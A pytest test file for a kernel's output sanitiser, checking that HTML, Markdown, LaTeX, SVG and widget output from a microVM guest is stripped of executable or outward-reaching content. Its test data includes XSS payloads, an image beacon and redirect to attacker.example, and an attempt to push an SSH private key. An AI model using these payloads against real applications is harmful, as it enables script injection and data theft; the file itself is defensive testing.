"""The output policy: what of a guest's output a browser may render."""

from __future__ import annotations

import base64
import json

import pytest

from smolvm_kernel.output_policy import OutputPolicy, safe_output, sanitize_html, sanitize_markdown


@pytest.fixture
def policy() -> OutputPolicy:
    return OutputPolicy()


@pytest.mark.parametrize("html, gone", [
    ("<script>fetch('/api/contents')</script>", "<script"),
    ("<img src=x onerror=\"fetch('/api/contents')\">", "onerror"),
    ("<a href=\"javascript:alert(1)\">x</a>", "javascript:"),
    ("<a href=\"JaVaScRiPt:alert(1)\">x</a>", "aScRiPt"),
    ("<button data-commandlinker-command=\"terminal:create-new\">open</button>", "commandlinker"),
    ("<iframe src=\"/lab\"></iframe>", "iframe"),
    ("<form action=\"/api/contents\" method=\"post\"><input name=a></form>", "form"),
    ("<svg><script>alert(1)</script></svg>", "script"),
    ("<style>body{display:none}</style>", "display:none"),
    ("<div style=\"position:fixed;top:0\">overlay</div>", "position:fixed"),
    ("<img src=\"https://attacker.example/?secret=1\">", "attacker"),
    ("<a href=\"/api/contents/x\">relative</a>", "/api/contents"),
    ("<a href=\"data:text/html,<script>alert(1)</script>\">d</a>", "data:text/html"),
    ("<object data=\"x.swf\"></object><embed src=\"x\">", "embed"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example\">", "refresh"),
])
def test_html_loses_what_runs_or_reaches_out(html, gone):
    assert gone.lower() not in sanitize_html(html).lower()


def test_safe_html_stays_readable():
    table = ('<table border="1" class="dataframe"><thead><tr><th></th><th>a</th></tr></thead>'
             '<tbody><tr><th>0</th><td>1</td></tr></tbody></table>')
    out = sanitize_html(table)
    assert "<table" in out and "<td>1</td>" in out and "<th>a</th>" in out
    assert sanitize_html('<a href="https://docs.python.org">docs</a>').startswith('<a href="https://docs.python.org"')
    png = "data:image/png;base64,iVBORw0KGgo="
    assert png in sanitize_html(f'<img src="{png}">')


def test_javascript_output_is_replaced_by_a_visible_note(policy):
    data, _ = policy.bundle({"application/javascript": "fetch('/api/contents')",
                             "text/plain": "<IPython.core.display.Javascript object>"})
    assert list(data) == ["text/plain"]
    assert "blocked application/javascript" in data["text/plain"] and "output_allow_mimes" in data["text/plain"]


@pytest.mark.parametrize("mime", ["text/javascript", "application/vnd.bokehjs_exec.v0+json",
                                  "application/vnd.holoviews_exec.v0+json", "application/x-unknown"])
def test_unknown_and_executable_mimes_are_blocked(policy, mime):
    data, _ = policy.bundle({mime: "x", "text/html": "<b>rest</b>"})
    assert mime not in data and data["text/html"] == "<b>rest</b>"
    assert policy.notes and mime in policy.notes[0]      # the relay says so in the cell


def test_allowing_a_mime_lets_it_through():
    data, _ = OutputPolicy(allow_mimes=["application/vnd.plotly.v1+json"]).bundle(
        {"application/vnd.plotly.v1+json": {"data": []}})
    assert data == {"application/vnd.plotly.v1+json": {"data": []}}


def test_svg_becomes_an_image(policy):
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    data, meta = policy.bundle({"image/svg+xml": svg, "text/plain": "<Figure>"},
                               {"image/svg+xml": {"isolated": True}})
    assert "image/svg+xml" not in data and "image/svg+xml" not in meta
    html = data["text/html"]
    assert html.startswith('<img src="data:image/svg+xml;base64,')
    assert base64.b64decode(html.split("base64,")[1].split('"')[0]).decode() == svg   # shown, not run


def test_markdown_links_and_raw_html(policy):
    md = "[click](javascript:alert(1)) [ok](https://example.org) <img src=x onerror=alert(1)>"
    out = sanitize_markdown(md)
    assert "javascript:" not in out and "onerror" not in out and "(https://example.org)" in out
    assert sanitize_markdown("# Title\n\n*plain* `code`") == "# Title\n\n*plain* `code`"


def test_latex_that_links_out_is_shown_as_text(policy):
    data, _ = policy.bundle({"text/latex": r"$\href{javascript:alert(1)}{x}$"})
    assert "text/latex" not in data and "blocked text/latex" in data["text/plain"]
    ok, _ = policy.bundle({"text/latex": r"$\frac{a}{b}$"})
    assert ok == {"text/latex": r"$\frac{a}{b}$"}


def test_trusted_passes_everything():
    bundle = {"application/javascript": "x", "text/html": "<script>y</script>"}
    assert OutputPolicy("trusted").bundle(bundle)[0] == bundle


@pytest.mark.parametrize("text", ["%smolvm push ../../.ssh/id_rsa", "x = 1\n  %smolvm stop", "%%smolvm\nprint(1)"])
def test_next_input_never_carries_a_host_line(policy, text):
    content = {"status": "ok", "payload": [{"source": "set_next_input", "text": text, "replace": True}]}
    assert policy.content("execute_reply", content)["payload"] == []


def test_harmless_payloads_pass_and_pages_are_filtered(policy):
    content = {"status": "ok", "payload": [
        {"source": "set_next_input", "text": "print(1)"},
        {"source": "page", "data": {"text/html": "<script>x</script><b>doc</b>", "text/plain": "doc"}, "start": 0},
        {"source": "something_else"}]}
    payload = policy.content("execute_reply", content)["payload"]
    assert payload[0]["text"] == "print(1)"
    assert payload[1]["data"] == {"text/html": "<b>doc</b>", "text/plain": "doc"}
    assert len(payload) == 2


def test_input_request_says_the_vm_asks(policy):
    assert policy.content("input_request", {"prompt": "Password: ", "password": True})["prompt"] \
        == "[microVM] Password: "


def _open(model_module, model="IntSliderModel", comm_id="w1", **state):
    return {"comm_id": comm_id, "target_name": "jupyter.widget", "data": {"state": {
        "_model_module": model_module, "_view_module": model_module, "_model_name": model, **state},
        "buffer_paths": []}}


def test_widgets_only_from_allowed_modules(policy):
    assert policy.content("comm_open", _open("@jupyter-widgets/controls")) is not None
    assert policy.content("comm_open", _open("evil-widget-from-a-cdn")) is None
    assert "evil-widget-from-a-cdn" in policy.notes[0]
    update = {"comm_id": "w1", "data": {"method": "update", "state": {"_view_module": "evil"}}}
    assert policy.content("comm_msg", update) is None
    states = {"comm_id": "ctl", "data": {"method": "update_states", "states": {
        "a": {"state": {"_model_module": "@jupyter-widgets/base", "_view_module": "@jupyter-widgets/base"}},
        "b": {"state": {"_model_module": "evil", "_view_module": "evil"}}}}}
    assert list(policy.content("comm_msg", states)["data"]["states"]) == ["a"]


def test_html_widgets_and_output_widgets_are_sanitised(policy):
    opened = policy.content("comm_open", _open("@jupyter-widgets/controls", "HTMLModel", "h1",
                                               value="<img src=x onerror=alert(1)>hi",
                                               description="<b>d</b>", description_allow_html=True))
    state = opened["data"]["state"]
    assert "onerror" not in state["value"] and state["description_allow_html"] is False
    later = policy.content("comm_msg", {"comm_id": "h1", "data": {"method": "update", "state": {
        "value": "<script>alert(1)</script>x"}}})
    assert later["data"]["state"]["value"] == "x"
    out = policy.content("comm_msg", {"comm_id": "o1", "data": {"method": "update", "state": {"outputs": [
        {"output_type": "display_data", "data": {"application/javascript": "x"}, "metadata": {}}]}}})
    assert "application/javascript" not in out["data"]["state"]["outputs"][0]["data"]


def test_malformed_content_does_not_raise(policy):
    for msg_type in ("display_data", "execute_result", "update_display_data", "execute_reply",
                     "input_request", "comm_open", "comm_msg"):
        for content in ({}, {"data": 5}, {"data": {"text/html": 7}}, {"payload": "x"}, {"payload": [1, None]},
                        {"data": {"state": []}}, {"data": {"method": "update_states", "states": {"a": 1}}},
                        {"prompt": ["x"]}, {"target_name": "jupyter.widget", "data": {"state": {"_model_module": 1}}}):
            policy.content(msg_type, json.loads(json.dumps(content)))


def test_safe_output_for_sandbox_callers():
    from smolvm_kernel.sandbox import Output

    out = safe_output(Output("display_data", {"data": {"text/html": "<script>x</script><i>ok</i>"}, "metadata": {}}))
    assert out.content["data"]["text/html"] == "<i>ok</i>"


@pytest.mark.parametrize("mime, value", [
    ("text/latex", ["$\\href{javascript:alert(1)}", "{x}$"]),      # a list is rendered joined
    ("text/html", ["<img src=x one", "rror=alert(1)>"]),
    ("text/html", {"not": "text"}),
    ("text/markdown", 7),
    ("image/svg+xml", ["<svg onload=alert(1)>", "</svg>"]),
])
def test_markup_given_as_a_list_or_a_non_string_is_checked_as_rendered(policy, mime, value):
    data, _ = policy.bundle({mime: value, "text/plain": "t"})
    rendered = json.dumps(data)
    assert "javascript:" not in rendered and "onerror" not in rendered and "onload" not in rendered.replace(
        "base64", "")
    assert mime not in data or isinstance(data[mime], str)
